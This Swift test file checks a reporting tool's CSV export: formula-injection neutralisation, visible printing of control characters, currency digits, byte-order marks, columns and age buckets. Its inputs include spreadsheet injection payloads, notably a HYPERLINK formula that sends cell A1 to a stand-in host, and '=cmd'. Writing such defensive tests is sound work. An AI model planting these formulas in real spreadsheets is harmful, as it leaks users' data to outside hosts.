import Foundation
import Postgres
import Testing

@testable import Reporting

@Suite struct CSVTests {
    @Test("case 58: what a spreadsheet would run is neutralised, real numbers are not")
    func neutralised() throws {
        let sample = try Sample()
        let dangerous = [
            "=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")", "+1-800", "@SUM(A1)", "\t=1", "-12.50 off", "  =1+1",
            "\u{FF1D}1", "\u{FEFF}=1",
        ]
        let harmless = ["plain", "12.50", "a=1", "Zoë", "éclair", "{x}"]
        for (index, order) in (dangerous + harmless).enumerated() {
            let subject = "order:" + String(UnicodeScalar(UInt8(97 + index)))
            try sample.addBreak(subject: subject, order: order, difference: "-12.50")
        }
        let report = try sample.publish(raw: true)
        let text = try sample.text(report, "breaks.csv")
        let printed = dangerous.map {
            "'" + $0.replacing("\t", with: #"\u{9}"#).replacing("\u{FEFF}", with: #"\u{feff}"#)
        }
        #expect(csvColumn(text, "order_id") == printed + harmless)
        #expect(Set(csvColumn(text, "difference")) == ["-12.50"])
        #expect(csvColumn(try sample.text(report, "breaks.raw.csv"), "order_id") == dangerous + harmless)
        let stored = try sample.connection.query("select order_id from tieout.break order by subject")
        #expect(try stored.map { try $0.text("order_id") } == dangerous + harmless)
    }

    @Test("what nobody can see is printed visibly, no two texts alike, and --raw has every byte as it is")
    func invisible() throws {
        let sample = try Sample()
        let texts: [(text: String, printed: String)] = [
            ("\u{1B}[31mred", #"\u{1b}[31mred"#), ("a\nb\r\tc\u{7F}", #"a\u{a}b\u{d}\u{9}c\u{7f}"#),
            (#"\u{1b}[31mred"#, #"\u{5c}u{1b}[31mred"#), (#"C:\users\{x}"#, #"C:\users\{x}"#),
            ("=1\u{202E}2", #"'=1\u{202e}2"#), ("Zoë 東京 \u{9B}", #"Zoë 東京 \u{9b}"#), ("plain", "plain"),
        ]
        for (index, item) in texts.enumerated() {
            try sample.addBreak(
                subject: "order:\(index)", order: item.text,
                facts: #"[{"a":"x\u001b[0m\u009b\u202e","field":"f"}]"#)
        }
        let report = try sample.publish(raw: true)
        let text = try sample.text(report, "breaks.csv")
        #expect(csvColumn(text, "order_id") == texts.map(\.printed))
        #expect(!text.unicodeScalars.contains { $0.properties.generalCategory == .control && $0 != "\n" })
        #expect(Set(csvColumn(text, "fields")) == [#"[{"a": "x\u001b[0m\u009b\u202e", "field": "f"}]"#])
        #expect(csvColumn(try sample.text(report, "breaks.raw.csv"), "order_id") == texts.map(\.text))
    }

    @Test("case 58: a header is neutralised like any text, and an ordinary one stays")
    func header() {
        #expect(CSVExport.neutralised("=cmd") == "'=cmd")
        #expect(CSVExport.neutralised(" @x") == "' @x")
        #expect(CSVExport.neutralised("order_id") == "order_id")
    }

    @Test("cases 35 and 36: amounts print with their currency's own digits, never fewer than they have")
    func digits() throws {
        let sample = try Sample()
        let cases: [(currency: String?, amount: String, printed: String, page: String)] = [
            ("JPY", "500.00", "500", "500"), ("KWD", "92", "92.000", "92.000"), ("EUR", "1.5", "1.50", "1.50"),
            ("JPY", "0.125", "0.125", "0.125"), ("XYZ", "1.500", "1.500", "1.500"),
            ("KWD", "31.680", "31.680", "31.680"),
        ]
        for (index, item) in cases.enumerated() {
            try sample.addBreak(
                subject: "order:\(index)", currency: item.currency, difference: item.amount, atRisk: item.amount)
        }
        let report = try sample.publish()
        #expect(csvColumn(try sample.text(report, "breaks.csv"), "difference") == cases.map(\.printed))
        let page = try sample.text(report, "index.html")
        for item in cases { #expect(page.contains("<data value=\"\(item.page)\">")) }
    }

    @Test("case 60: --bom puts one byte-order mark in front of each CSV, and the default none")
    func byteOrderMark() throws {
        let sample = try Sample()
        let plain = try sample.publish()
        let bytes = try Data(contentsOf: URL(filePath: "\(plain.path)/breaks.csv"))
        #expect(bytes.starts(with: Array("break_id,".utf8)))
        try FileManager.default.removeItem(atPath: sample.output)
        let marked = try sample.publish(bom: true)
        for file in marked.files where file.name.hasSuffix(".csv") {
            let bytes = try Data(contentsOf: URL(filePath: "\(marked.path)/\(file.name)"))
            #expect(bytes.prefix(3) == Data([0xEF, 0xBB, 0xBF]))
            #expect(bytes.dropFirst(3).first != 0xEF)
        }
    }

    @Test("breaks.csv has the columns of the contract, in their order")
    func columns() throws {
        let sample = try Sample()
        let header = try sample.text(try sample.publish(), "breaks.csv").prefix { $0 != "\n" }
        #expect(
            header == """
                break_id,account,rule,severity,state,source,subject,order_id,transaction_id,payment_id,direction,\
                segment,currency,difference,at_risk,due_at,opened_at,age_days,bucket,primary_break_id,owner,version,\
                reason,fields
                """)
    }

    @Test("case 64: each row states the differing field and both values")
    func fields() throws {
        let sample = try Sample()
        try sample.addBreak(
            subject: "order:1", facts: #"[{"field":"merchant_ref","a":"ABC123","b":"ABC124"}]"#)
        let report = try sample.publish()
        let text = try sample.text(report, "breaks.csv")
        #expect(csvColumn(text, "fields") == [#"[{"a": "ABC123", "b": "ABC124", "field": "merchant_ref"}]"#])
        #expect(csvColumn(text, "version") == ["1"])
    }

    @Test(
        "cases 50 and 51: age counts calendar days of the account's zone since due",
        arguments: [
            ("2026-08-21T20:59:59Z", "1", "0–1"), ("2026-08-21T21:00:00Z", "0", "0–1"),
            ("2026-08-19T12:00:00Z", "3", "2–7"),
            ("2026-07-15T12:00:00Z", "38", "31–60"), ("2026-09-01T00:00:00Z", "0", "0–1"),
        ])
    func age(due: String, days: String, bucket: String) throws {
        let sample = try Sample()
        try sample.addBreak(subject: "order:1", due: due)
        let text = try sample.text(try sample.publish(), "breaks.csv")
        #expect(csvColumn(text, "age_days") == [days])
        #expect(csvColumn(text, "bucket") == [bucket])
    }
}
